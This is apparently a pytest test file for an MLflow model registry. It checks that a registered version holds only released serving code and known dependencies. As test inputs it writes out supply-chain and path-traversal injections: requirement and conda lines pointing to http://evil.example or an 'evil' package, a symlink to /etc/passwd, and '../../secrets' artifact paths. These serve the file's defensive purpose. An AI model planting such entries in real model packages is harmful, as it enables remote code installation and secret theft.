"""A version runs released code alone; everything else in it is data."""

import hashlib
import re
from pathlib import Path

import pytest
import yaml

from eurosat.errors import ModelError
from eurosat.models import version_files
from registry import register
from tests.support.paths import ROOT
from tests.support.registry import CLASSES, MLFLOW_WARNS, TAGS, make_network

pytestmark = MLFLOW_WARNS
DESCRIPTION = {"classes": CLASSES, "tile_size": [64, 64], "bands": 3, "views": 1}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The files of a version as `registry.register` writes them."""
    network = make_network(tmp_path / "model.onnx")
    origin = {"run_id": "r", "data_fingerprint": TAGS["data.fingerprint"]}
    register._save_pyfunc({"network": network}, DESCRIPTION, origin, tmp_path / "version")
    return tmp_path / "version"


def change_yaml(file: Path, **changes: object) -> None:
    """Replace values; a name such as ``flavors__python_function__code`` leads to a nested one."""
    content = yaml.safe_load(file.read_text())
    for name, value in changes.items():
        *parents, last = name.split("__")
        target = content
        for parent in parents:
            target = target[parent]
        target[last] = value
    file.write_text(yaml.safe_dump(content))


def test_the_present_code_is_released() -> None:
    digest = hashlib.sha256((ROOT / "serving" / "pyfunc.py").read_bytes()).hexdigest()
    assert digest in version_files.released_code(), (
        "serving/pyfunc.py has changed: add the line "
        f"'{digest}  DATE' to eurosat/models/released_code.txt"
    )


def test_the_files_of_a_version_pass_with_their_digests(folder: Path) -> None:
    digests = version_files.check(folder)
    assert {"MLmodel", "pyfunc.py", "artifacts/model.onnx", "requirements.txt"} <= digests.keys()
    version_files.check_unchanged(digests, digests)
    (folder / version_files.ADDED_BY_MLFLOW).write_text("version: 1")
    assert version_files.check(folder) == digests


def test_other_code_is_refused(folder: Path) -> None:
    with (folder / "pyfunc.py").open("a") as file:
        file.write("\nimport os\n")
    with pytest.raises(ModelError, match=r"pyfunc\.py: not the code that this project has releas"):
        version_files.check(folder)


@pytest.mark.parametrize(
    "name",
    ["code/more.py", "model.pkl", "python_model.pkl", "sitecustomize.pth", "artifacts/x.so", "a/b"],
)
def test_a_file_that_no_version_has_is_refused(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("")
    with pytest.raises(ModelError, match="a version has no file"):
        version_files.check(folder)


def test_a_second_module_or_a_link_is_refused(folder: Path) -> None:
    (folder / "yaml.py").write_text("")
    with pytest.raises(ModelError, match=r"pyfunc\.py, yaml\.py: not the code"):
        version_files.check(folder)
    (folder / "yaml.py").unlink()
    (folder / "artifacts" / "other.onnx").symlink_to("/etc/passwd")
    with pytest.raises(ModelError, match=r"no file 'artifacts/other\.onnx'"):
        version_files.check(folder)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("loader_module", "os"),
        ("loader_module", "mlflow.pyfunc.model"),
        ("code", "artifacts"),
        ("model_code_path", "/etc/other.py"),
        ("python_model", "python_model.pkl"),
        ("data", "x"),
        ("env", {"conda": "../conda.yaml"}),
        ("artifacts", {"network": {"path": "../../secrets"}}),
        ("artifacts", {"network": {"path": "artifacts/model.onnx", "code": "x"}}),
    ],
)
def test_an_mlmodel_that_loads_anything_else_is_refused(
    folder: Path, name: str, value: object
) -> None:
    change_yaml(folder / "MLmodel", **{f"flavors__python_function__{name}": value})
    with pytest.raises(ModelError, match="MLmodel has"):
        version_files.check(folder)


def test_a_second_flavor_or_a_foreign_example_is_refused(folder: Path) -> None:
    change_yaml(folder / "MLmodel", flavors__sklearn={"pickled_model": "model.pkl"})
    with pytest.raises(ModelError, match="other flavors"):
        version_files.check(folder)
    content = yaml.safe_load((folder / "MLmodel").read_text())
    del content["flavors"]["sklearn"]
    content["saved_input_example_info"]["artifact_path"] = "../../etc/passwd"
    (folder / "MLmodel").write_text(yaml.safe_dump(content))
    with pytest.raises(ModelError, match="saved_input_example_info"):
        version_files.check(folder)


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("requirements.txt", "numpy==", "evil==1.0\nnumpy=="),
        ("requirements.txt", "numpy==", "--index-url http://evil.example\nnumpy=="),
        ("requirements.txt", "numpy==", "numpy @ http://evil.example/numpy.whl #"),
        ("requirements.txt", "numpy==", "-e .\nnumpy=="),
        ("conda.yaml", "- conda-forge", "- http://evil.example"),
        ("conda.yaml", "- pip<=", "- evil\n- pip<="),
        ("conda.yaml", "- pip:", "- npm:\n  - evil\n- pip:"),
        ("python_env.yaml", "- wheel", "- wheel\n- evil"),
        ("python_env.yaml", "- -r requirements.txt", "- -r other.txt"),
    ],
)
def test_a_version_installs_known_packages_alone(
    folder: Path, name: str, old: str, new: str
) -> None:
    text = (folder / name).read_text()
    assert old in text
    (folder / name).write_text(text.replace(old, new, 1))
    with pytest.raises(ModelError, match=re.escape(name)):
        version_files.check(folder)


def test_changed_added_and_removed_files_are_named() -> None:
    with pytest.raises(ModelError, match="a, b, c differ from what was registered"):
        version_files.check_unchanged({"a": "1", "b": "2"}, {"a": "2", "c": "3"})
